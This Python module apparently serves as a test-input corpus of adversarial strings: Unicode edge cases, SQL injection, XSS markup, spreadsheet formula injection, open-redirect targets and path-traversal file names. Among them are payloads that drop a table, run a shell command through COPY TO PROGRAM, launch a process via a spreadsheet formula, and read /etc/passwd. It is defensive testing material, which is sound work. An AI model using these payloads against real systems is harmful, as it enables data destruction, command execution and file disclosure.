"""What attackers type: text that would like to be markup, SQL, a formula, a number, a date, an address."""

from __future__ import annotations

__all__ = [
    "DATES",
    "FORMULAS",
    "MARKUP",
    "NUMBERS",
    "PATHS",
    "SQL",
    "TARGETS",
    "UNICODE",
]

UNICODE = (
    "é", "é", "Å", "가", "ﬁ", "①", "王\u200b芳", "王\u200d芳", "\u200e\u200f", "\u202e芳王\u202c",
    "\u2066王\u2069", "аdmin", "ＡＤＭＩＮ", "👩‍👩‍👧‍👦", "🏳️‍🌈", "\ud800", "王\udfff芳", "\udc00\ud800", "\0", "王\0芳",
    "𠀀𠮷𬭎", "\U0010ffff", "\ufffe", "\uffff", "\U0001fffe", "\ufeff王", "\ufdd0", "a" + "\u0301" * 90,
    "ａ" * 100, "ﷺ" * 20, "\u2028\u2029", "\x7f\x80\x9f", "\x1b[2J", "\u061c", "ß", "İ", "ǆ", "Ω",
    "\u115f\u1160", "\u3164", "\u00ad", "\u180e", "🇨🇳", "\U000e0041\U000e007f",
)  # fmt: skip
"""Twins of two forms, what is not seen, what turns the line round, lookalikes, halves, and what is no character."""

SQL = (
    "'", "''", '"', "\\", "\\'", "';--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1",
    "1; DROP TABLE people.person;--", "'; SELECT pg_sleep(9);--", "'||pg_sleep(9)||'", "$$;SELECT 1;$$",
    "' UNION SELECT NULL,NULL--", "' AND 1=CAST((SELECT version()) AS int)--", "%", "_", "%%%%", "\\%", "[a-z]",
    "'; SET app.tenant='';--", "'; SELECT set_config('app.tenant','',true);--", "/*", "*/", "/**/", "--", "#",
    "$1", "$99", "%s", "%(name)s", "{0}", "{name}", "${x}", "{{7*7}}", "{% raw %}", "E'\\x00'", "U&'\\0061'",
    "::uuid", "NULL", "null", "x'; COPY x TO PROGRAM 'id';--", "a:* & b:*", "&|!<->", "(((", ")))", "~", "^(a+)+$",
)  # fmt: skip
"""Each would break out of a statement, a pattern, a search or a format that was put together from text."""

MARKUP = (
    "<xss>", "</main><xss>", '"><xss>', "'><xss>", "<script xss>xss()</script>", "</script><xss>",
    "</title><xss>", "</textarea><xss>", "</style><xss>", "<img src=x xss onerror=xss()>", "<svg xss onload=xss()>",
    '" onfocus=xss() xss="', "' onfocus=xss() xss='", "x onfocus=xss() xss=", '" autofocus xss="', "`xss=`",
    "<iframe xss srcdoc='<xss>'>", "<a xss href=javascript:xss()>x</a>", "javascript:xss()", "JaVaScRiPt:xss()",
    "java\tscript:xss()", "data:text/html,<xss>", "vbscript:xss()", "<base xss href=//example.invalid>",
    "<meta xss http-equiv=refresh content=0>", "<form xss action=//example.invalid>", "<input xss formaction=x>",
    "<math xss><mtext>", "<object xss data=x>", "<embed xss src=x>", "<link xss rel=stylesheet href=x>",
    "<style xss>@import 'x'</style>", "<div xss style=x>", "<!--<xss>-->", "<![CDATA[<xss>]]>", "<?xss?>",
    "&lt;xss&gt;", "&#60;xss&#62;", "&#x3c;xss>", "\\u003cxss\\u003e", "\\x3cxss\\x3e", "%3Cxss%3E",
    "＜xss＞", "‹xss›", "<\0xss>", "<xss\n>", "<xss/xss>", "<<xss>>", "<xss", "xss>", "{{xss}}", "{%xss%}", "${xss}",
    "<div hx-get=/t xss>", "<div hx-on:load=xss() xss>", "<template xss>", "<portal xss>",
    "<details xss open ontoggle=x>",
    "<marquee xss onstart=x>", "<video xss><source onerror=x>", "]]><xss>",
)  # fmt: skip
"""Every one would leave an element or attribute behind that is called xss, or a handler, or an address that is code."""

FORMULAS = tuple(
    start + rest
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u200b=", "'=")
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid?"&A1)', "SUM(1)", "1")
)

NUMBERS = (
    "9" * 4_000, "-" + "9" * 400, "2147483648", "-2147483649", "9223372036854775808", "1e308", "1e999", "-0",
    "NaN", "Infinity", "-Infinity", "0x10", "1_000", "٣", "1.5", "", " 1 ", "+1", "true", "null", "--1", "½", "１",
)  # fmt: skip

DATES = (
    "0001-01-01", "9999-12-31", "0000-01-01", "10000-01-01", "2026-02-29", "2024-02-29", "2026-13-01",
    "2026-06-31", "2026-01-01T24:00", "24:00", "2026-01-01T00:00+14:00", "2026-01-01T00:00-14:00", "-1", "1e9", "0",
    "今天", "2.30", "12.31", "99999999", "00000000", "1900-01-00", "2026-W01-1", "٢٠٢٦-٠١-٠١",
)  # fmt: skip

TARGETS = (
    "//example.invalid", "///example.invalid", "////example.invalid", "/\\example.invalid", "\\\\example.invalid",
    "/\\/example.invalid", "\\/example.invalid", "/\t/example.invalid", "/\n/example.invalid", "/\r/example.invalid",
    "\t//example.invalid", " //example.invalid", "https://example.invalid", "http:example.invalid",
    "https:/example.invalid", "HTTPS://EXAMPLE.INVALID", "javascript:xss()", "JAVASCRIPT:xss()", "java\nscript:xss()",
    "data:text/html,xss", "vbscript:x", "/%2f%2fexample.invalid", "%2f%2fexample.invalid", "/%5cexample.invalid",
    "//example.invalid@testserver", "https://testserver@example.invalid", "//testserver.example.invalid",
    "／／example.invalid", "/／example.invalid", "//example。invalid", "/\u2028/example.invalid",
    "/\u200b/example.invalid",
    "/\ufeff/example.invalid", ".example.invalid", "@example.invalid", ":443", "?//example.invalid",
    "#//example.invalid",
    "/..//example.invalid", "/./\\example.invalid", "/x\r\nLocation: //example.invalid", "/\0/example.invalid", "", "x",
)  # fmt: skip

PATHS = (
    "../../../etc/passwd", "..\\..\\win.ini", "/etc/passwd", "....//....//x", "%2e%2e%2fx", "..%2fx", "%2e%2e/x",
    "file:///etc/passwd", "x\0.csv", "C:\\x", "\\\\host\\x", "~/x", "x/../../y", "CON", "x" * 300, ".", "..", "",
    "名册.xlsx/../x", "名\r\n册: x.csv", 'a";filename="b.exe', "a\u202excod.exe", "<xss>.csv", "=1+1.csv", "%00",
)  # fmt: skip
"""Names of files, and segments of addresses."""
